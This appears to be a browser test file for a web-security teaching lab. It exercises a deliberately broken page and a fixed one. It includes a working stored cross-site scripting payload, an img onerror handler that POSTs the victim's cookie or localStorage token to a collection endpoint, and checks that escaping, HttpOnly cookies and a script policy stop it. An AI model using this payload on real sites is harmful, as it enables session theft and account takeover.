// The attacks of lesson 17 that need a browser: a script in a name, which reads a cookie and localStorage.
// Each is carried out on the broken page and on the fixed one.

import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import { Visitor, launch } from './browser.mjs';
import { ATTACK_LAB, claimsOf, start } from './server.mjs';

/** What mallory calls herself: an image that can't load, and a script that runs because of that. */
const nameThatSends = (what) => `<img src="x:" onerror="fetch('/stolen/inbox', { method: 'POST', body: ${what} })">`;

let browser;
let server;
let visitor;
let victim;

before(async () => {
  server = await start(ATTACK_LAB);
  browser = await launch();
  ({ victim } = await json('/attacks/stolen'));
});
after(async () => {
  await browser?.close();
  await server?.stop();
});
beforeEach(async () => {
  visitor = await Visitor.of(browser, server);
});
afterEach(() => visitor.context.close());

const ask = (path, options) => fetch(new URL(path, server.origin), options);
const json = async (path, options) => (await ask(path, options)).json();
const inbox = async () => (await ask('/stolen/inbox')).text();
const note = (token, side = 'broken') =>
  json(`/${side}/stolen/note`, { headers: { Authorization: `Bearer ${token}` } });

async function rename(name) {
  const { token } = await json('/stolen/login', { method: 'POST' });
  const headers = { Authorization: `Bearer ${token}` };
  const answer = await ask('/stolen/name', { method: 'POST', headers, body: JSON.stringify({ name }) });
  assert.equal(answer.status, 200);
}

/** The victim signs in and looks at the members. Returns what the script sent, if it ran. */
async function visit(side) {
  const sent = visitor.page
    .waitForResponse((response) => response.url().endsWith('/stolen/inbox'))
    .then(() => true)
    .catch(() => false);
  await visitor.open(`/${side}/stolen/victim`);
  await visitor.page.click('main a');
  await visitor.page.waitForSelector('li');
  return sent;
}

const cookies = async () =>
  Object.fromEntries((await visitor.context.cookies()).map((cookie) => [cookie.name, cookie]));

describe('the broken page', () => {
  for (const [what, expression] of [
    ['the cookie', 'document.cookie'],
    ['localStorage', 'localStorage.token'],
  ]) {
    test(`a script in a name steals the token from ${what}`, async () => {
      await rename(nameThatSends(expression));
      assert.ok(await visit('broken'), 'the script sent nothing');
      const token = (await inbox()).split('\n').at(-1).replace('token=', '');
      assert.equal(claimsOf(token).sub, victim);
      const answer = await note(token);
      assert.equal(answer.user, victim);
      assert.equal(answer.solved, true, answer.because);
      assert.equal(answer.strict.reason, 'token_leaked');
      assert.equal((await note(token, 'fixed')).reason, 'token_leaked');
    });
  }

  test('a token that no script has sent is not stolen', async () => {
    await rename('mallory');
    await visitor.open('/broken/stolen/victim');
    const token = await visitor.page.evaluate(() => localStorage.token);
    const answer = await note(token);
    assert.equal(answer.user, victim);
    assert.equal(answer.solved, false, answer.because);
    assert.equal((await cookies()).token.httpOnly, false);
  });
});

describe('the fixed page', () => {
  for (const expression of ['document.cookie', 'localStorage.token']) {
    test(`the same name is text, so nothing sends ${expression}`, async () => {
      const before = await inbox();
      const name = nameThatSends(expression);
      await rename(name);
      await visitor.open('/fixed/stolen/victim');
      await visitor.page.click('main a');
      await visitor.page.waitForSelector('li');
      // Everything has loaded, so an image would have failed by now.
      await visitor.page.waitForFunction(() => document.readyState === 'complete');
      assert.deepEqual(await visitor.page.$$eval('li', (items) => items.map((item) => item.textContent)), [
        'victim',
        name,
      ]);
      assert.equal(await visitor.has('img'), false);
      assert.equal(await inbox(), before);
    });
  }

  test('its cookie is sent, and no script can read it', async () => {
    await rename('mallory');
    await visitor.open('/fixed/stolen/victim');
    const { token } = await cookies();
    assert.deepEqual([token.httpOnly, token.sameSite], [true, 'Lax']);
    assert.deepEqual(await visitor.page.evaluate(() => [document.cookie, localStorage.length]), ['', 0]);
    assert.equal(claimsOf(token.value).sub, victim);
    const answer = await note(token.value, 'fixed');
    assert.equal(answer.user, victim);
  });

  test('its policy would stop a script even without the escaping', async () => {
    await rename('mallory');
    await visitor.open('/fixed/stolen/members');
    const ran = await visitor.page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = true';
      document.body.append(script);
      return globalThis.ran ?? false;
    });
    assert.equal(ran, false);
    await visitor.open('/broken/stolen/members');
    const control = await visitor.page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = true';
      document.body.append(script);
      return globalThis.ran ?? false;
    });
    assert.equal(control, true);
  });
});

test('each page says that it is broken on purpose, where everyone can read it', async () => {
  await rename('mallory');
  for (const path of ['/', '/broken/stolen/members', '/fixed/stolen/victim']) {
    await visitor.open(path);
    assert.match(await visitor.text('body'), /This is the attack lab\. It is broken on purpose\./);
  }
  for (const page of ['members', 'victim']) {
    await visitor.open(`/broken/stolen/${page}`);
    await visitor.isReadable();
  }
});
